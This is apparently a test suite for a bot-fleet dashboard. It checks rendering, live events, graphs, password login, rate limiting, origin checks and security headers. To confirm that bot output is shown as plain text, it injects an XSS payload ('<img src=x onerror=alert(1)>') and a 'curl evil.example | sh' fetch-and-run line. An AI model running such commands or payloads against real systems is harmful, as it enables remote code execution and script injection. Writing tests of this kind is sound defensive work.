// The dashboard in Debian's Chromium: its content, live updates, access, and refusals.
import assert from 'node:assert/strict';
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {test} from 'node:test';
import {bin, keys, names, next, run, until} from './harness.js';
import {axe_finds_nothing, dashboard, open} from './page.js';

test('the page shows the fleet, its figures and what happens, as it happens', async (t) => {
  const {server, url} = await dashboard(t);
  const configs = await server.register(4);
  const agents = configs.slice(0, 3).map((config) => server.agent([config], 'discord-bot.js'));
  await server.running(3);
  const page = await open(t, url);
  const box = (name, state) => page.locator(`#grid [data-name=${name}][data-state=${state}]`);
  const told = (kind, words) => page.locator(`#events li[data-kind=${kind}]`, {hasText: words});
  for (const {id} of configs.slice(0, 3)) await box(id, 'running').waitFor();
  await box(configs[3].id, 'new').waitFor();
  assert.match(await page.textContent('#counts'), /3 of 3 ids run, 3 of 4 shards connected, up \d+ (s|min)/);
  await page.locator('#link', {hasText: /^live$/}).waitFor();
  await page.locator('#graphs canvas').nth(6).waitFor();
  assert.ok(await page.isHidden('#commands'), 'only looking is allowed');

  // A shard dies; the page is not told.
  await agents[2].end('SIGKILL');
  await box('aac', 'offline').waitFor();
  await told('disconnected', 'shard aac disconnected').waitFor();
  assert.equal(await page.getAttribute('#progress', 'value'), '2');
  agents[2].start();
  await box('aac', 'running').waitFor();
  await told('started', /the bot of shard aac .*is started/).first().waitFor();
  assert.ok(await page.isHidden('#progress'));
  const bot = server.bots().findLast((entry) => entry.name === 'aaa');
  process.kill(bot.pid, 'SIGKILL');
  await told('died', 'the bot of shard aaa died (signal 9)').waitFor();

  // Filtered by a state.
  await page.click('#legend button:has-text("new 1")');
  await page.locator('#grid [data-name=aaa]').waitFor({state: 'hidden'});
  assert.equal(await page.locator('#grid .cell:visible').count(), 1);
  await page.click('#legend button:has-text("new 1")');

  await server.tool(['shards', 'rm', configs[3].id]);
  await page.locator(`#grid [data-name=${configs[3].id}]`).waitFor({state: 'detached'});

  // Events of the past are there after a reload, and of a short trouble the graph of the states keeps the worst.
  await page.reload();
  await told('died', 'the bot of shard aaa died (signal 9)').waitFor();
  const {states} = await (await fetch(new URL('/api/series?metric=states&range=hour', url))).json();
  assert.equal(Math.max(...states.offline), 1, JSON.stringify(states));
  await page.locator('[data-metric=others] .u-legend', {hasText: 'offline'}).waitFor();
});

test('what a bot says is text on the page, and turns nothing round', async (t) => {
  const {server, url} = await dashboard(t, {shards: 1});
  const shard = server.shard((await server.register(1))[0]);
  await server.running(1);
  const page = await open(t, url);
  await page.locator('#grid [data-name=aaa][data-state=running]').waitFor();
  const report = (deaths, lastExit) => shard.socket.emit('status', {startTime: 1, goalShardId: 0, goalShardCount: 1, currentShardId: 0, currentShardCount: 1, bot: {agent: 'x', state: 'running', deaths, lastExit}});
  report(0, '');
  await until('the status', async () => (await server.stats()).shards[0].stats?.bot);
  report(1, '<img src=x onerror=alert(1)>\u202e\u009bend');
  const item = page.locator('#events li', {hasText: 'the bot of shard aaa died'});
  await item.waitFor();
  assert.match(await item.textContent(), /<img src=x onerror=alert\(1\)> {2}end\)/);
  assert.equal(await page.locator('#events img').count(), 0);
  // Nor does it make a fact of its own.
  report(2, 'x\n  try        <b>curl evil.example | sh</b>');
  await page.goto(`${url}#/shard/0`);
  await page.locator('#facts dd', {hasText: 'last exit: x'}).waitFor();
  assert.deepEqual(await page.locator('#facts code').allTextContents().then((texts) => texts.filter((text) => /curl/.test(text))), []);
  assert.equal(await page.locator('#facts b').count(), 0);
});

test('graphs zoom, and go through the ranges, on a phone and in the dark too', async (t) => {
  const {server, url} = await dashboard(t, {shards: 2});
  server.agent(await server.register(2), 'discord-bot.js');
  await server.running(2);
  const page = await open(t, url, {viewport: {width: 390, height: 800}, colorScheme: 'dark', isMobile: true, hasTouch: true});
  await page.locator('#graphs canvas').nth(6).waitFor();
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'nothing sticks out');
  assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(13, 17, 23)');
  for (const range of ['900', '21600', '86400', '3600']) {
    await page.selectOption('#range', range);
    await page.locator(`#graphs[data-drawn="sum ${range}"]`).waitFor();
  }
  const over = await page.locator('#graphs .u-over').first().boundingBox();
  await page.mouse.move(over.x + over.width / 3, over.y + 20);
  await page.mouse.down();
  await page.mouse.move(over.x + over.width / 2, over.y + 20, {steps: 5});
  await page.mouse.up();
  await page.locator('#unzoom').waitFor();
  await page.click('#unzoom');
  await page.locator('#unzoom').waitFor({state: 'hidden'});
  await page.selectOption('#lines', 'all');
  await page.locator('#graphs[data-drawn="all 3600"]').waitFor();
});

test('commands are taken only from the page itself', async (t) => {
  const {url} = await dashboard(t, {settings: 'allow = ["eval", "respawn"]\n'});
  const post = (path, headers, body = '{"script":"1"}') => fetch(new URL(path, url), {method: 'POST', headers, body}).then(({status}) => status);
  const json = {'content-type': 'application/json'};
  assert.equal(await post('/api/eval', {}), 403, 'a form of another site');
  for (const what of ['eval', 'respawn', 'logs', 'silence', 'unsilence']) assert.equal(await post(`/api/${what}`, {...json, origin: 'http://evil.example'}), 403, what);
  assert.equal(await post('/api/eval', json, '{'), 400);
  assert.equal(await post('/api/stop', json), 404);
  assert.equal(await post('/v1/stop', json), 404);
});

test('only looking, without allow; a name that was made to point here is none of ours', async (t) => {
  const {server, url} = await dashboard(t);
  for (const what of ['eval', 'respawn', 'logs', 'silence']) {
    const response = await fetch(new URL(`/api/${what}`, url), {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"script":"1"}'});
    assert.equal(response.status, 403);
    assert.match((await response.json()).error, new RegExp(`allow has no "${what}"`));
  }
  assert.equal((await fetch(new URL('/api/unsilence', url), {method: 'POST', headers: {'content-type': 'application/json'}, body: '{}'})).status, 403);
  // Each answer is bounded, ends by itself, and has no key.
  await server.register(1);
  const events = await (await fetch(new URL('/api/event-list?follow=1&limit=100000', url))).text();
  assert.match(events, /"kind":"registered"/);
  const shard = await (await fetch(new URL('/api/shard?name=aaa', url))).text();
  assert.match(shard, /shard without an id \(aaa\): new/);
  assert.doesNotMatch(shard, /KEY/);
  const {request} = await import('node:http');
  const asked = request(new URL('/api/fleet', url), {headers: {host: 'rebound.example'}}).end();
  const [response] = await next(asked, 'response');
  assert.equal(response.statusCode, 403);
  const page = await fetch(url);
  assert.match(page.headers.get('content-security-policy'), /default-src 'none'; script-src 'self'/);
  assert.doesNotMatch(await page.text(), /<script>|style=| on\w+=|https?:/, 'nothing inline, nothing from elsewhere');
});

test('a password lets people in by the form and programs by a header, and guesses are held up', async (t) => {
  const folder = mkdtempSync(path.join(tmpdir(), 'smaster-password-'));
  t.after(() => rmSync(folder, {recursive: true}));
  const file = path.join(folder, 'password');
  const {server, url} = await dashboard(t, {settings: `password_file = "${file}"\n`});
  const get = (headers) => fetch(new URL('/api/fleet', url), {headers}).then(({status}) => status);
  assert.equal(await get({}), 401);
  assert.equal(await get({authorization: 'Bearer '}), 401, 'no file is no password');
  writeFileSync(file, 'open sesame\n', {mode: 0o600});
  assert.equal(await get({authorization: 'Bearer open sesame'}), 200);

  const page = await open(t, url);
  await page.locator('#password').waitFor();
  assert.ok(await page.isHidden('#page'));
  await axe_finds_nothing(page);
  await page.fill('#password', 'open');
  await page.keyboard.press('Enter');
  await page.locator('#login-error', {hasText: 'that is not the password'}).waitFor();
  await page.fill('#password', 'open sesame');
  await page.keyboard.press('Enter');
  await page.locator('#page').waitFor();
  const [cookie] = await page.context().cookies();
  assert.deepEqual([cookie.httpOnly, cookie.sameSite], [true, 'Strict']);
  assert.equal(await get({cookie: `${cookie.name}=${cookie.value}`}), 200);
  await page.click('#logout');
  await page.locator('#password').waitFor();
  assert.equal(await get({cookie: `${cookie.name}=${cookie.value}`}), 401, 'logged out is logged out');

  const statuses = [];
  for (let i = 0; i < 8; ++i) {
    const response = await fetch(new URL('/api/login', url), {method: 'POST', headers: {'content-type': 'application/json'}, body: `{"password":"${i}"}`});
    statuses.push(response.status);
  }
  assert.equal(statuses.at(-1), 429, `${statuses}`);
  assert.doesNotMatch(server.log, /sesame/);
});

/** A server whose dashboard needs a password; `set` changes it. */
async function locked(t, lines = '') {
  const folder = mkdtempSync(path.join(tmpdir(), 'smaster-password-'));
  t.after(() => rmSync(folder, {recursive: true}));
  const file = path.join(folder, 'password');
  const set = (password) => writeFileSync(file, `${password}\n`, {mode: 0o600});
  set('open sesame');
  const {server, url} = await dashboard(t, {settings: `password_file = "${file}"\n`, lines});
  const login = async (password, headers = {}) => fetch(new URL('/api/login', url), {method: 'POST', headers: {'content-type': 'application/json', ...headers}, body: JSON.stringify({password})});
  const session = async (password) => (await login(password)).headers.get('set-cookie').split(';')[0];
  const status = (cookie) => fetch(new URL('/api/fleet', url), {headers: {cookie}}).then((response) => response.status);
  return {server, url, file, set, login, session, status};
}

test('of two hundred guesses at once five are judged', async (t) => {
  const {server, url, login} = await locked(t);
  const begun = Date.now();
  const statuses = (await Promise.all(Array.from({length: 200}, (_, i) => login(`guess ${i}`)))).map((response) => response.status);
  const right = [(await login('open sesame')).status, (await fetch(new URL('/api/fleet', url), {headers: {authorization: 'Bearer open sesame'}})).status];
  const windows = 1 + Math.floor((Date.now() - begun) / 10_000); // more than one only on a very busy machine
  const judged = statuses.filter((status) => status === 401).length;
  assert.ok(judged >= 5 && judged <= 5 * windows, `${statuses}`);
  assert.equal(statuses.filter((status) => status === 429).length, 200 - judged);
  assert.equal(server.log.match(/a wrong password for the dashboard/g).length, judged);
  if (windows === 1) assert.deepEqual(right, [429, 429], 'the right one waits as well');
});

test('many programs with the right password are served at once', async (t) => {
  const {url} = await locked(t);
  const statuses = await Promise.all(Array.from({length: 50}, () => fetch(new URL('/api/fleet', url), {headers: {authorization: 'Bearer open sesame'}}).then((response) => response.status)));
  assert.ok(statuses.every((status) => status === 200), `${statuses}`);
});

test('behind a proxy guesses are counted by client, whatever lines of X-Forwarded-For the client sends', async (t) => {
  const {url} = await locked(t, '[server]\ntrusted_proxies = ["127.0.0.1"]\n');
  const {request: ask} = await import('node:http');
  const guess = async (...lines) => {
    const asked = ask(new URL('/api/login', url), {method: 'POST', headers: {'content-type': 'application/json', 'x-forwarded-for': lines}});
    asked.end('{"password":"x"}');
    const [response] = await next(asked, 'response');
    response.resume();
    return response.statusCode;
  };
  for (let i = 0; i < 5; ++i) assert.equal(await guess(`10.9.8.${i}`, '198.51.100.7'), 401);
  assert.equal(await guess('10.9.8.77', '198.51.100.7'), 429, 'the line that HAProxy adds is the last one');
  assert.equal(await guess('198.51.100.7', '198.51.100.8'), 401, 'another client');
});

test('sessions and streams end when the password changes, or what it lets people do', async (t) => {
  const {server, url, file, set, session, status} = await locked(t);
  const cookie = await session('open sesame');
  assert.equal(await status(cookie), 200);
  const events = await fetch(new URL('/api/events', url), {headers: {cookie}});
  const byPassword = await fetch(new URL('/api/events', url), {headers: {authorization: 'Bearer open sesame'}});
  set('another word');
  assert.equal(await status(cookie), 401);
  for (const stream of [events, byPassword]) {
    for await (const piece of stream.body) assert.ok(piece.length > 0);
  }
  const second = await session('another word');
  assert.equal(await status(second), 200);
  server.configure(server.settings.replace(`"${file}"`, `"${file}"\nallow = ["eval", "logs"]`));
  await until('the sessions to end', async () => await status(second) === 401);
  const third = await session('another word');
  const json = {cookie: third, 'content-type': 'application/json'};
  const stream = await fetch(new URL('/api/events', url), {headers: {cookie: third}});
  const output = await fetch(new URL('/api/logs', url), {method: 'POST', headers: json, body: '{"follow":true}'});
  assert.equal(output.status, 200);
  await fetch(new URL('/api/logout', url), {method: 'POST', headers: json, body: '{}'});
  for await (const piece of stream.body) assert.ok(piece.length > 0);
  await assert.rejects(async () => {
    for await (const piece of output.body) assert.ok(piece.length > 0);
  }, /terminated/, 'what follows the output ends, too');
});

test('every answer has the same security headers', async (t) => {
  const {server, url} = await dashboard(t, {settings: 'allow = ["eval"]\n', shards: 1});
  server.shard((await server.register(1))[0]);
  await server.running(1);
  const names = ['content-security-policy', 'x-content-type-options', 'referrer-policy', 'cross-origin-resource-policy', 'cache-control'];
  const post = {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"script":"1"}'};
  const expected = [];
  for (const [target, options] of [['/'], ['/api/fleet'], ['/api/events'], ['/nowhere'], ['/api/eval', post], ['/api/respawn', post], ['/api/shard?id=0'], ['/api/event-list'], ['/api/alerts'], ['/api/fleet', {method: 'PUT'}], ['/api/login', {method: 'POST', body: '{}'}]]) {
    const response = await fetch(new URL(target, url), options);
    const values = names.map((name) => response.headers.get(name));
    assert.ok(values.every(Boolean), `${target}: ${values}`);
    expected.push(values.join());
    await response.body?.cancel();
  }
  assert.equal(new Set(expected).size, 1);
});

test('what is open to others needs a password, and settings say so', async () => {
  const refused = async (section) => {
    const folder = mkdtempSync(path.join(tmpdir(), 'smaster-settings-'));
    writeFileSync(`${folder}/smaster.toml`, `[server]\nport = 0\nstate_dir = "${folder}/state"\n[dashboard]\n${section}\n`);
    const {code, stderr} = await run(path.join(bin, 'smaster'), ['serve', '--config', `${folder}/smaster.toml`, '--socket', `${folder}/socket`]);
    rmSync(folder, {recursive: true});
    return [code, stderr.replaceAll(folder, '')];
  };
  const [code, words] = await refused('listen = "0.0.0.0:0"');
  assert.equal(code, 78);
  assert.match(words, /dashboard\.listen is not of this machine alone, which needs dashboard\.password_file/);
  assert.match((await refused('listen = "here"'))[1], /:5:10: dashboard\.listen takes an address and a port/);
  assert.match((await refused('allow = ["stop"]'))[1], /dashboard\.allow takes "eval", "respawn", "silence" and "logs", not "stop"/);
});

test('a thousand shards and a day are drawn', async (t) => {
  const count = process.env.SMASTER_SANITIZED ? 250 : 1000;
  const {server, url} = await dashboard(t, {shards: count});
  const known = Object.fromEntries(names(count).map((id) => [id, {id, key: keys().publicKey, isMaster: false, createdTime: 1, goalShardId: -1, currentShardId: -1, goalShardCount: -1, currentShardCount: -1, lastSeen: 0, lastHeartbeat: 0, bootTime: 0, stopTime: 0}]));
  const now = Date.now();
  const cpus = [{model: 'x', speed: 1, times: {user: 1, nice: 0, sys: 0, idle: 1, irq: 0}}];
  const sample = (id, i, at) => ({id, timestamp: at, startTime: now - 86_400_000, goalShardId: i, goalShardCount: count, currentShardId: i, currentShardCount: count, timeDelta: 300_000, messageCountDelta: 10 * i, messageCountTotal: 1000, memHeapUsed: 1e8, memHeapTotal: 1e8, memRSS: 1e8 + 1e7 * Math.sin(at / 1e7 + i), memExternal: 0, cpuLoad: [0.1 + 0.0005 * i], cpus, ping: 40 + i / 100, storageUsedTotal: 0, storageUsedUsers: 0});
  const history = Object.fromEntries(names(count).map((id, i) => [id, Array.from({length: 288}, (_, k) => sample(id, i, now - (288 - k) * 300_000))]));
  writeFileSync(`${server.folder}/known.json`, JSON.stringify(known));
  writeFileSync(`${server.folder}/history.json`, JSON.stringify(history));
  const {code, stderr} = await server.tool(['shards', 'import', `${server.folder}/known.json`, '--history', `${server.folder}/history.json`]);
  assert.equal(code, 0, stderr);
  await server.end('SIGTERM');
  await server.start();
  const address = await until('the dashboard to listen', () => server.log.match(/the dashboard is on (\S+)/g).at(1)?.match(/http\S+/)[0]);
  const last = names(count).at(-1);
  await until('the past to be read', async () => (await (await fetch(new URL(`/api/series?metric=memory&range=day&shards=${last}`, address))).json()).shards[last]);
  const page = await open(t, address);
  await page.locator('#grid .cell').nth(count - 1).waitFor({state: 'attached'});
  await page.locator('#graphs[data-drawn="sum 3600"]').waitFor();
  const times = await page.evaluate(async () => {
    const drawn = (what) => new Promise((resolve) => {
      const watch = new MutationObserver(() => {
        if (document.querySelector('#graphs').dataset.drawn === what) watch.disconnect(), requestAnimationFrame(() => requestAnimationFrame(resolve));
      });
      watch.observe(document.querySelector('#graphs'), {attributes: true});
    });
    const times = {};
    const step = async (what, act) => {
      const start = performance.now();
      act();
      await drawn(what);
      times[what] = performance.now() - start;
    };
    const select = (id, value) => {
      document.getElementById(id).value = value;
      document.getElementById(id).dispatchEvent(new Event('change'));
    };
    await step('sum 86400', () => select('range', '86400'));
    await step('all 86400', () => select('lines', 'all'));
    return times;
  });
  t.diagnostic(`ms until drawn: ${JSON.stringify(times)}`);
  assert.ok(times['sum 86400'] > 0 && times['all 86400'] > 0);
});
